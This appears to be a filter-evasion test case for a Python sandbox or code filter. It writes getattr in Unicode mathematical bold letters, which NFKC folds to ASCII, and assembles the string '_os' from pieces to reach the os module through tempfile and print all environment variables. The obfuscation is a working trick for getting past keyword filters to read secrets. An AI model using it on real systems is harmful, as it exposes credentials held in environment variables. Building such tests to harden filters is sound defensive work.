# family: injection
# filterfamily: unicode-comments
# tries: write getattr in mathematical bold letters (folded by NFKC) to take tempfile's OS module and print the environment
# source: https://peps.python.org/pep-3131/
# exfil: yes
import tempfile

m = 𝐠𝐞𝐭𝐚𝐭𝐭𝐫(tempfile, "_o" + "s")
print(dict(m.environ))
